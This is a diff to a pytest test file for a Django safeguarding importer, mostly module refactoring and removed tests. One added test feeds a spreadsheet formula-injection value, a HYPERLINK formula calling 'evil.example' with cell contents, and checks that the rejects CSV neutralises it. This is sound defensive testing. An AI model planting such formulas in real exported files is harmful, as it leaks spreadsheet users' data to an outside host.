@@ -18,12 +18,16 @@ from pytest_django.fixtures import Settings
 from safeguarding.accounts.models import Agency, AgencyKind
 from safeguarding.audit.models import AuditEvent, AuditEventType
 from safeguarding.core.errors import ServiceError
-from safeguarding.exchange import importer
+from safeguarding.exchange import importer, read, upsert
 from safeguarding.exchange.importer import ImportResult, import_extract
 from safeguarding.exchange.models import ImportIssue, ImportRun, ImportStatus, IssueSeverity
 from safeguarding.people.models import Event, Person, Relationship, SourceRecord, SourceSystem
 
-EXAMPLE = Path(__file__).resolve().parents[3] / "shared" / "exchange" / "example"
+# The shared example beside the project (../shared), found from a git worktree of it too.
+EXAMPLE = next(
+    (found for folder in Path(__file__).resolve().parents if (found := folder / "shared" / "exchange" / "example").is_dir()),
+    Path(__file__).resolve().parents[3] / "shared" / "exchange" / "example",
+)
 UTC = dt.UTC
 
 PEOPLE_HEADER = (
@@ -207,6 +211,25 @@ def test_rejects_file_holds_each_issue_with_the_row_as_sent(systems: dict, examp
     assert rows[1]["source_system"] == "bad-system"
     assert rows[2]["event_type"] == "ran_away"
     assert rows[2]["detail"] == "unknown event type: must be rejected"
+
+
+@pytest.mark.django_db
+def test_rejects_file_writes_a_value_a_spreadsheet_would_run_as_text(systems: dict, tmp_path: Path) -> None:
+    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
+    extract = write_extract(tmp_path / "x", {"people.csv": people_file(
+        people_row("P1", given_name=hostile, sex="?"), people_row("P2", source_system="@SUM(1,1)"),
+    )})
+
+    result = import_extract(extract)
+
+    assert result.rejects_path is not None
+    with result.rejects_path.open(encoding="utf-8-sig", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [(r["line"], r["given_name"], r["source_system"]) for r in rows] == [
+        ("2", "'" + hostile, "police-records"), ("3", "", "'@SUM(1,1)"),
+    ]
+    assert rows[1]["reason"].startswith("unknown source_system")
+    assert SourceRecord.objects.get().given_name == hostile  # what the hub holds is what was sent
 
 
 # --- Later extracts ------------------------------------------------------------------------------
@@ -489,7 +512,7 @@ def test_a_file_that_is_not_utf8_is_refused_with_its_line(systems: dict, example
 def test_a_repeated_key_in_a_later_batch_is_still_found(
     systems: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
 ) -> None:
-    monkeypatch.setattr(importer, "BATCH_SIZE", 2)
+    monkeypatch.setattr(read, "BATCH_SIZE", 2)
     extract = write_extract(tmp_path / "x", {"people.csv": people_file(
         *(people_row(f"P{n}") for n in range(5)), people_row("P1", given_name="late"),
     )})
@@ -522,7 +545,7 @@ def test_a_failure_mid_import_leaves_nothing_half_written(
     def explode(self: object, rows: object) -> None:
         raise RuntimeError("disk full")
 
-    monkeypatch.setattr(importer._Importer, "_events_batch", explode)
+    monkeypatch.setattr(upsert.Upsert, "events", explode)
 
     with pytest.raises(ServiceError, match="disk full"):
         import_extract(example)
@@ -592,33 +615,6 @@ def test_source_systems_add_and_list(db: None) -> None:
         call_command("source_systems", "add", "police-records", "--agency", "police", "--name", "Again")
     with pytest.raises(CommandError, match="no agency 'fire'"):
         call_command("source_systems", "add", "fire-records", "--agency", "fire", "--name", "Fire")
-
-
-@pytest.mark.parametrize("number", ["07700 900123", "07700900999", "0114 273 4567", "020 7946 0000", "0300 123 4567"])
-def test_the_phone_shortcut_agrees_with_the_normaliser(number: str) -> None:
-    from safeguarding.core import normalise
-
-    assert importer._phone(number) == normalise.phone(number)
-
-
-@pytest.mark.parametrize(
-    ("text", "expected"),
-    [
-        ("2025-01-10T22:15:00", (dt.datetime(2025, 1, 10, 22, 15, tzinfo=UTC), False)),
-        ("2025-07-01T10:00", (dt.datetime(2025, 7, 1, 9, 0, tzinfo=UTC), False)),
-        ("2025-07-01", (dt.datetime(2025, 6, 30, 23, 0, tzinfo=UTC), True)),
-        ("2025-10-26T01:30:00", (dt.datetime(2025, 10, 26, 0, 30, tzinfo=UTC), False)),  # twice: the first
-        ("2025-03-30T01:30:00", (dt.datetime(2025, 3, 30, 1, 30, tzinfo=UTC), False)),  # skipped hour
-        ("2025-07-01T10:00:00+02:00", (dt.datetime(2025, 7, 1, 8, 0, tzinfo=UTC), False)),
-        ("2025-07-01T10:00:00Z", (dt.datetime(2025, 7, 1, 10, 0, tzinfo=UTC), False)),
-        ("2025-02-30", None),
-        ("2025-01-10T25:00", None),
-        ("1066-10-14", None),
-        ("next Tuesday", None),
-    ],
-)
-def test_occurred_at_is_read_as_local_time_in_england(text: str, expected: tuple[dt.datetime, bool] | None) -> None:
-    assert importer._parse_moment(text) == expected
 
 
 @pytest.mark.django_db
